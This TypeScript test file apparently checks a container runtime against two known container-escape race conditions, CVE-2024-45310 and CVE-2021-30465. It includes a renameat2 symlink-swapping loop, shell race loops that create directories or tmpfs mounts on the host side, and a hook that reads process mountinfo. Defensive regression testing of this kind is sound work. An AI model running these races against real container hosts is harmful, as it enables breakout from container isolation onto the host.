// A process that shares a volume with the container to be swaps a directory of it for a link, again and again, between
// what a runtime checks and what it does.

import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'

import type { Box } from '#tests/support/box.ts'
import { DEFAULT_MOUNTS } from '#tests/support/spec.ts'
import { attack, naively } from './attack.ts'

/** Exchanges two names for as long as it lives, some hundred thousand times a second. */
const SWAPPER = `
  const { dlopen } = require('bun:ffi')
  const { renameat2 } = dlopen('libc.so.6', {
    renameat2: { args: ['i32', 'cstring', 'i32', 'cstring', 'u32'], returns: 'i32' },
  }).symbols
  const [a, b] = process.argv.slice(-2).map((path) => Buffer.from(path + '\\0'))
  for (;;) for (let i = 0; i < 1000; i++) renameat2(-100, a, -100, b, 2)
`

/** A directory of the image that is a link to the host half of the time. */
class Swapped implements Disposable {
  readonly victim: string
  readonly #swapper: Bun.Subprocess

  constructor(box: Box) {
    this.victim = box.path('victim')
    mkdirSync(`${this.victim}/inner`, { recursive: true })
    mkdirSync(`${box.rootfs}/volume/at/inner`, { recursive: true })
    symlinkSync(this.victim, `${box.rootfs}/volume/link`)
    const paths = ['at', 'link'].map((name) => `${box.rootfs}/volume/${name}`)
    const argv = [process.execPath, '-e', SWAPPER, ...paths]
    this.#swapper = Bun.spawn(argv, { stdio: ['ignore', 'ignore', 'inherit'] })
  }

  [Symbol.dispose](): void {
    this.#swapper.kill('SIGKILL')
  }
}

const TRIES = 40

attack({
  name: 'CVE-2024-45310: directories for a mount are made on the host, as a parent becomes a link',
  prepare: (box, ending) => ending.use(new Swapped(box)),
  naive: (box) =>
    naively(
      box,
      `i=0; while [ $i -lt 2000 ]; do i=$((i+1));
         [ -L "$ROOTFS/volume/at" ] || mkdir -p "$ROOTFS/volume/at/made" 2>/dev/null
         [ -e "${'$'}{VICTIM}/made" ] && exit; done`,
      { VICTIM: box.path('victim') },
    ),
  bunc: (box) => repeatedly(box, '/volume/at/made'),
  harm: (_, { victim }) => readdirSync(victim).includes('made'),
})

attack({
  name: 'CVE-2021-30465: a mount lands on the host, as its target becomes a link',
  prepare: (box, ending) => {
    const seen = box.path('seen')
    // Before the old root is gone, whoever makes the container can see where its mounts are.
    const script = `#!/bin/sh\npid=$(sed 's/.*"pid": *\\([0-9]*\\).*/\\1/'); cat /proc/$pid/mountinfo >> ${seen}\n`
    writeFileSync(seen, '')
    writeFileSync(box.path('hook'), script, { mode: 0o755 })
    return ending.use(new Swapped(box))
  },
  naive: (box) =>
    naively(
      box,
      `i=0; while [ $i -lt 300 ]; do i=$((i+1));
         [ -L "$ROOTFS/volume/at" ] || mount -t tmpfs none "$ROOTFS/volume/at/inner" 2>/dev/null
         grep " $VICTIM" /proc/self/mountinfo >> "$SEEN" && exit; done`,
      { VICTIM: box.path('victim'), SEEN: box.path('seen') },
    ),
  bunc: async (box) => {
    await repeatedly(box, '/volume/at/inner', { createRuntime: [{ path: box.path('hook') }] })
    const seen = readFileSync(box.path('seen'), 'utf8')
    if (!seen.includes(` ${box.rootfs}/volume/at/inner `)) throw new Error('Cannot see where the mounts are')
  },
  harm: (box, { victim }) => readFileSync(box.path('seen'), 'utf8').includes(` ${victim}`),
})

/** Makes containers with a mount at a path that is swapped. Some are refused: a link may well lead nowhere. */
async function repeatedly(box: Box, destination: string, hooks = {}): Promise<void> {
  let made = 0
  for (let i = 0; i < TRIES; i++) {
    const mounts = [...DEFAULT_MOUNTS, { destination, type: 'tmpfs', source: 'tmpfs' }]
    if ((await box.run({ mounts, hooks })).code === 0) made++
    rmSync(`${box.rootfs}${box.path('victim')}`, { recursive: true, force: true })
  }
  if (made === 0) throw new Error('Cannot say that the attack has failed: no container was made')
}
